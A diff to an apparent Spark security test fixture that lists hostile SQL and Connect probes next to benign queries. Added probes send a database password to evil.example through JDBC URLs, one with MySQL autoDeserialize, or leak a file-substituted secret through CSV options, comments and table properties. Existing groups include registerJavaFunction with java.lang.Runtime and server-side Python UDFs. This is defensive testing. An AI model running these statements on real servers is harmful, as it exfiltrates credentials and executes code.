@@ -30,6 +30,32 @@ PATHS: Sequence[str] = (
 )
 """Spellings of one file of the server; ``{lake}`` is a folder that users may read, beside the file."""
 
+PASSWORD = "${{files:{folder}/shop/db.properties:password}}"
+"""A password that everybody may use for one database, and nowhere else."""
+
+SHOP = "jdbc:derby:memory:shop;create=true"
+"""That database."""
+
+BOUND = (
+    "CREATE TABLE bound USING jdbc"
+    f" OPTIONS (url '{SHOP}', dbtable 'sysibm.sysdummy1', user 'app', password '{PASSWORD}')"
+)
+"""A table with that password."""
+
+
+def _view(url: str, more: str = "", source: str = "jdbc") -> str:
+    options = f"url '{url}', dbtable 'sysibm.sysdummy1', user 'app', password '{PASSWORD}'{more}"
+    return f"CREATE OR REPLACE TEMPORARY VIEW peek USING {source} OPTIONS ({options})"
+
+
+def _jdbc(options: str) -> str:
+    return f"CREATE TEMPORARY VIEW peek USING jdbc OPTIONS (url '{SHOP}', {options})"
+
+
+def _csv(option: str) -> str:
+    return f"CREATE TEMPORARY VIEW peek USING csv OPTIONS (path '{{lake}}', {option} '{PASSWORD}')"
+
+
 STATEMENTS: Mapping[str, Sequence[str]] = {
     "read a file": [f"SELECT * FROM text.`{path}`" for path in PATHS],
     "read a file, by the source's other names": [
@@ -171,6 +197,34 @@ STATEMENTS: Mapping[str, Sequence[str]] = {
         "SELECT * FROM range(1) WHERE '${{env:HOME}}' LIKE '/%'",
         "SELECT concat('a', '${{system:user.name}}')",
     ],
+    "send a password elsewhere": [
+        _view("jdbc:derby:memory:other;create=true"),
+        _view("jdbc:derby:memory:shop;create=true;traceFile=x"),
+        _view("jdbc:derby://evil.example:1527/shop;create=true"),
+        _view("jdbc:postgresql://evil.example/shop"),
+        _view("jdbc:postgresql://shop@evil.example/shop"),
+        _view("jdbc:mysql://evil.example/shop?autoDeserialize=true"),
+        _view("jdbc:sqlserver://shop;serverName=evil.example"),
+        _view(SHOP, ", socketFactory 'com.acme.Own'"),
+        _view(SHOP, ", traceFile '{lake}/trace'"),
+        _view(SHOP.replace("shop", "Shop"), source="org.apache.spark.sql.jdbc"),
+        "SELECT * FROM bound WITH (url 'jdbc:derby:memory:other;create=true')",
+        BOUND.replace("TABLE bound", "TABLE peek").replace("memory:shop", "memory:other"),
+    ],
+    "read a password": [
+        _csv("nullValue"),
+        _csv("`NULLVALUE`"),
+        _csv("password"),
+        _csv("lineSep").replace("USING csv", "USING text"),
+        _jdbc(f"query 'VALUES 1 -- {PASSWORD}'"),
+        _jdbc(f"dbtable '(VALUES 1) a -- {PASSWORD}'"),
+        _jdbc(f"dbtable 'sysibm.sysdummy1', sessionInitStatement '{PASSWORD}'"),
+        f"CREATE TEMPORARY VIEW peek USING jdbc OPTIONS (url '{PASSWORD}', dbtable 'a')",
+        f"CREATE TABLE peek (a STRING) USING parquet TBLPROPERTIES ('a' = '{PASSWORD}')",
+        f"ALTER TABLE kept SET TBLPROPERTIES ('a' = '{PASSWORD}')",
+        f"SELECT * FROM kept WITH (nullValue '{PASSWORD}')",
+        _jdbc(f"dbtable 'sysibm.sysdummy1', driver '{PASSWORD}'"),
+    ],
     "choose the server's code by a conf": [
         f"SET {key}"
         for key in (
@@ -223,7 +277,7 @@ CONNECT: Mapping[str, Sequence[str]] = {
     ],
     "run Python on the server": [
         "spark.range(1).select(F.udf(lambda a: a)('id')).collect()",
-        "spark.range(1).filter(F.udf(lambda a: True, 'boolean')('id')).collect()",
+        "spark.range(1).filter(F.udf(lambda a: True, T.BooleanType())('id')).collect()",
         "spark.udf.register('peek', lambda a: a)",
         "spark.range(1).mapInPandas(lambda rows: rows, 'id long').collect()",
         "spark.range(1).mapInArrow(lambda rows: rows, 'id long').collect()",
@@ -232,20 +286,20 @@ CONNECT: Mapping[str, Sequence[str]] = {
             "spark.range(1).groupBy('id').cogroup(spark.range(1).groupBy('id'))"
             ".applyInPandas(lambda a, b: a, 'id long').collect()"
         ),
-        "spark.range(1).select(F.pandas_udf(lambda a: a, 'long')('id')).collect()",
+        "spark.range(1).mapInArrow(lambda rows: rows, 'id long', barrier=True).collect()",
         "F.udtf(Rows, returnType='a int')().collect()",
         "spark.udtf.register('peek', F.udtf(Rows, returnType='a int'))",
         "spark.dataSource.register(Source)",
         "rate.writeStream.foreachBatch(lambda rows, number: None).start()",
         "rate.writeStream.foreach(print).start()",
-        "spark.range(1).agg(F.pandas_udf(lambda a: 1, 'long', functionType=202)('id')).collect()",
+        "spark.range(1).groupBy('id').applyInArrow(lambda rows: rows, 'id long').collect()",
     ],
     "bring code and classes": [
         "spark.addArtifact('{folder}/code.py', pyfile=True)",
         "spark.addArtifacts('{folder}/code.zip', archive=True)",
         "spark.addArtifact('{folder}/bait.txt', file=True)",
         "spark.addArtifact('{folder}/code.jar')",
-        "spark.addArtifact('{folder}/Code.class')",
+        "spark.addArtifacts('{folder}/code.jar', '{folder}/code.jar')",
         "spark.copyFromLocalToFs('{bait}', '{folder}/copied')",
         "spark.udf.registerJavaFunction('peek', 'java.lang.Runtime')",
         "spark.udf.registerJavaFunction('peek', 'com.acme.Own', 'string')",
@@ -287,6 +341,11 @@ CONNECT_HONEST: Sequence[str] = (
 """What everybody does with DataFrames."""
 
 HONEST: Mapping[str, Sequence[str]] = {
+    "a database": [
+        _view(SHOP).replace("peek", "own_orders"),
+        "SELECT count(*) FROM own_orders",
+        "SELECT count(*) FROM bound",
+    ],
     "queries": [
         "SELECT 1",
         "SELECT count(*) FROM range(10) r JOIN range(5) s ON r.id = s.id",
